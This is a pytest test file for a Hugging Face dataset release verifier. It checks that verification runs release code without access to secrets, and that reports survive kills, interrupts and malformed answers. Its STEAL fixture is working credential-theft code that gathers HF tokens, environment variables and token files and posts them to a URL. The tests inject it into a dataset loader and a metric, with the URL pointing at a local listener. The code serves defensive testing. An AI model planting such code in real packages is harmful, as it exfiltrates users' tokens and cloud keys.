"""Code of a release runs without the reader's secrets, and whatever it does, the report says how each check ended."""

from __future__ import annotations

import errno
import json
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import HfApi
from invented_release import build_release, release_config

from hubkit.artifacts.verification import Verification
from hubkit.errors import HubkitError
from hubkit.localhub import LocalHub
from hubkit.packaging.package import package
from hubkit.verification import downstream
from hubkit.verification.examination import Own
from hubkit.verification.findings import Findings, Interrupted, read_answer, results_of
from hubkit.verification.verify import verify_repos

SECRETS = {
    "PHYSIONET_PASSWORD": "pw-of-the-corpus",
    "AWS_SECRET_ACCESS_KEY": "key-of-a-cloud",
    "HTTPS_PROXY_PASSWORD": "of-a-proxy",
    "https_proxy": "http://me:secret-of-the-proxy@127.0.0.1:9",
}

STEAL = """
import json
import os
import pathlib
import urllib.request
from huggingface_hub import get_token

def _steal(who):
    found = {"get_token": str(get_token()), **os.environ}
    for home in (os.environ.get("HF_HOME", ""), os.path.expanduser("~/.cache/huggingface")):
        for path in (pathlib.Path(home) / "token", pathlib.Path(home) / "stored_tokens"):
            found[str(path)] = path.read_text() if path.exists() else ""
    urllib.request.urlopen("ADDRESS", json.dumps([who, found]).encode()).read()

_steal("WHO")
"""

KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
INTERRUPT = "import os, signal, time\nos.kill(os.getppid(), signal.SIGINT)\ntime.sleep(60)\n"

DATASET, METRIC = "maintainer/hostile", "maintainer/hostile_metric"


class Listener(ThreadingHTTPServer):
    """Takes what is posted to it."""

    received: list[Any]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


class _Handler(BaseHTTPRequestHandler):
    server: Listener

    def do_POST(self) -> None:
        self.server.received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *arguments: object) -> None:
        pass


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener(("127.0.0.1", 0), _Handler) as server:
        server.received = []
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def corpus(hub: LocalHub, listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The corpus of a release whose loader and metric steal; its loader kills or interrupts on other branches."""
    root = tmp_path_factory.mktemp("hostile")
    workspace = build_release(root, studies=16)
    names = {"namespace": hub.owner, "dataset": "hostile", "metric": "hostile_metric"}
    package(release_config(root / "corpus", hub=names), workspace)
    loader = workspace.dist / "dataset" / "loader" / "mimic_cxr_ptbr.py"
    metric = workspace.dist / "metric" / "hostile_metric.py"
    honest = loader.read_text()
    for path in (loader, metric):
        code = STEAL.replace("ADDRESS", listener.url).replace("WHO", path.stem)
        # After the future import, which has to be the first statement.
        head, mark, rest = path.read_text().partition("from __future__ import annotations\n")
        path.write_text(head + mark + code + rest)
    api = HfApi(endpoint=hub.url, token=hub.tokens["owner"])
    for repo, kind, folder in ((DATASET, "dataset", "dataset"), (METRIC, "space", "metric")):
        space = {"space_sdk": "static"} if kind == "space" else {}
        api.create_repo(repo, repo_type=kind, **space)
        api.upload_folder(repo_id=repo, repo_type=kind, folder_path=workspace.dist / folder)
        for branch in ("killing", "interrupting"):
            api.create_branch(repo, repo_type=kind, branch=branch)
    for branch, code in (("killing", KILL), ("interrupting", INTERRUPT)):
        content = honest.replace("from __future__ import annotations\n", f"from __future__ import annotations\n{code}")
        name = loader.relative_to(workspace.dist / "dataset").as_posix()
        api.upload_file(
            path_or_fileobj=content.encode(), path_in_repo=name, repo_id=DATASET, repo_type="dataset", revision=branch
        )
    return root / "corpus"


def checks_of(report: Path) -> dict[str, str]:
    """Of the granted reader: how each check ended, and what was told of it."""
    readers = json.loads(report.read_text())["readers"]
    granted = next(reader for reader in readers if reader["reader"] == "granted")
    return {check["check"]: f"{check['result']}: {check['detail']}" for check in granted["checks"]}


def test_code_of_a_release_finds_no_secret(
    hub: LocalHub, corpus: Path, listener: Listener, own_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    monkeypatch.setenv("HF_TOKEN", hub.tokens["granted"])
    (own_home / "token").write_text(hub.tokens["granted"])
    monkeypatch.setattr("hubkit.verification.verify.READER_CHECKS", ["loader_joins", "bertimbau_table"])
    report = tmp_path / "verification.json"
    with pytest.raises(HubkitError, match="checks failed"):  # the repos are not gated
        verify_repos([DATASET, METRIC], "main", Own(corpus, None), [], report)
    assert checks_of(report)["loader_joins"].startswith("passed: text ")
    assert {who for who, _ in listener.received} >= {"mimic_cxr_ptbr", "hostile_metric"}, checks_of(report)
    told = json.dumps(listener.received)
    secrets = [*SECRETS.values(), *hub.tokens.values()]
    assert [secret for secret in secrets if secret in told] == []
    assert [secret for secret in secrets if secret in report.read_text() + report.with_suffix(".log").read_text()] == []


def test_a_killed_process_fails_the_check_that_it_made(
    hub: LocalHub, corpus: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hubkit.verification.verify.READER_CHECKS", ["loader_joins", "bertimbau_table"])
    report = tmp_path / "verification.json"
    with pytest.raises(HubkitError, match="checks failed, first loader_joins"):
        verify_repos([DATASET, METRIC], "killing", Own(corpus, None), [], report)
    assert checks_of(report) == {
        "loader_joins": "failed: the process was killed by SIGKILL; see verification.log",
        "bertimbau_table": "not run: the process that makes it ended before",
    }


def test_an_interrupt_leaves_a_report(hub: LocalHub, corpus: Path, tmp_path: Path) -> None:
    checks = "import hubkit.verification.verify as v; v.READER_CHECKS = ['one_release', 'loader_joins']"
    program = [sys.executable, "-c", f"{checks}; from hubkit.cli import main; main()"]
    command = [*program, "verify", DATASET, "--tag", "interrupting", "--corpus", str(corpus)]
    done = subprocess.run(
        command,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=dict(os.environ),
        # What a shell starts in the background ignores interrupts, and so do its children.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert done.returncode == 130, done.stderr
    last = done.stderr.splitlines()[-1]
    assert last == "hubkit: verification.json: interrupted (it has what was checked until then)"
    found = checks_of(tmp_path / "verification.json")
    assert found["one_release"] == "failed: the repos call it release-1.0.0"
    assert found["loader_joins"] == "not run: the verification ended before"
    report = json.loads((tmp_path / "verification.json").read_text())
    assert (report["format"], report["ended"]) == (2, "the verification was interrupted")


@pytest.mark.parametrize(
    ("raised", "shown", "ended"),
    [
        (OSError(errno.ENOSPC, "No space left on device", "/tmp/x"), HubkitError, "No space left on device"),
        (HubkitError("broken", where="there"), HubkitError, "there: broken"),
        (KeyboardInterrupt(), Interrupted, "the verification was interrupted"),
        (IndexError("list index"), IndexError, "IndexError"),
    ],
)
def test_however_it_ends_there_is_a_report(
    tmp_path: Path, raised: BaseException, shown: type[BaseException], ended: str
) -> None:
    findings = Findings(tmp_path / "verification.json", Verification(release="main", counts={}))
    findings.plan("granted", ["one", "two"])
    with pytest.raises(shown) as caught, findings.written():
        findings.record("granted", "one", "passed", "well\n\x1b[2Jdone")
        raise raised
    assert "\n" not in str(caught.value)
    report = json.loads(findings.path.read_text())
    assert report["ended"] == ended
    assert report["counts"] == {"passed": 1, "failed": 0, "not run": 1}
    assert checks_of(findings.path) == {"one": "passed: well [2Jdone", "two": "not run: the verification ended before"}


def test_a_report_that_cannot_be_written_is_one_line() -> None:
    findings = Findings(Path("/proc/verification.json"), Verification(release="main", counts={}))
    with pytest.raises(HubkitError, match=r"^/proc/verification.json: cannot be written: [^\n]+$"), findings.written():
        raise KeyboardInterrupt


@pytest.mark.parametrize(
    ("text", "results"),
    [
        ("", {}),
        ("[]", {}),
        ("{", {}),
        ('{"checks": 3}', {}),
        ('{"checks": [3, {"check": "a"}, {"check": [], "result": "passed", "detail": ""}]}', {}),
        ('{"checks": [{"check": "a", "result": "fine", "detail": ""}]}', {}),
        ('{"checks": [{"check": "a", "result": "passed", "detail": "b"}]}', {"a": ("passed", "b")}),
    ],
)
def test_a_forged_answer_breaks_nothing(tmp_path: Path, text: str, results: dict[str, tuple[str, str]]) -> None:
    (tmp_path / "report.json").write_text(text)
    assert results_of(read_answer(tmp_path / "report.json")) == results


def raised(error: Exception, cause: Exception | None) -> Exception:
    try:
        raise error from cause
    except Exception as caught:  # noqa: BLE001
        return caught


def test_an_error_is_described_whatever_brought_it_about(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(Path(downstream.__path__[0])))
    monkeypatch.delitem(sys.modules, "__main__", raising=False)
    import runpy

    described = runpy.run_path(str(Path(downstream.__path__[0]) / "__main__.py"), run_name="checks")["described"]
    # A cause that was made and never raised, as the Hub's client does for a refused user, has no traceback.
    assert described(raised(OSError("not found"), ValueError("text"))) == "OSError: not found (ValueError)"
    assert described(OSError("never raised")) == "OSError: never raised"
    assert described(ValueError("text")) == "ValueError"
    circle = raised(OSError("a"), None)
    circle.__cause__ = circle
    assert described(circle) == "OSError: a (OSError: a (OSError: a (OSError: a)))"
